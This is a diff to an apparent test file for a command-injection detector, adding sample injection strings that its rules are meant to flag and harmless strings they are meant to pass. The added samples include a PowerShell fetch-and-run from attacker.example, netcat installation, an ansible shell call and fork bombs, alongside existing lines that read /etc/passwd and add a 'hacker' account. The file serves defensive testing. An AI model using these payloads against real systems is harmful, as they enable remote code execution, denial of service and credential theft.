@@ -43,6 +43,11 @@ RULE_CASES: dict[str, list[str]] = {
         "| dir C:\\",
         "& net user hacker P@ss /add",
         "\r\nwhoami",
+        # package managers, configuration management and PowerShell's download cmdlets
+        "; apt-get install -y netcat",
+        "x && ansible localhost -m shell -a id",
+        "| iwr -useb http://attacker.example/a.ps1",
+        "; dmesg",
         # a one-token value, then a line of its own (%0a gets past filters of ; | &)
         "10.0.0.7\nid",
         "report\nuname",
@@ -115,6 +120,7 @@ RULE_CASES: dict[str, list[str]] = {
         "if %ERRORLEVEL% neq 0 exit /b 1",
     ],
     "HG-CMDI-008": ['<!--#exec cmd="/bin/cat /etc/passwd"-->'],
+    "HG-CMDI-011": [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "x(){ x & x; };x"],
     "HG-CMDI-009": ["system('cat /etc/passwd')", "eval('whoami');", 'os.system("id")'],
     # options that run a command of their own where the value is one argument (no shell to break out of)
     "HG-CMDI-010": [
@@ -132,6 +138,9 @@ STRICT_ONLY = ["whoami", "ifconfig", "uname"]
 
 BENIGN = [
     "a & b",
+    # a method in a code sample, a list of tools
+    "render(){ return this.a|b }",
+    "Stack: Terraform; Ansible; Chef",
     # English that opens like cmd.exe's FOR and IF
     "For each item in (the list) do this",
     "for 10% in (2024) we do better",
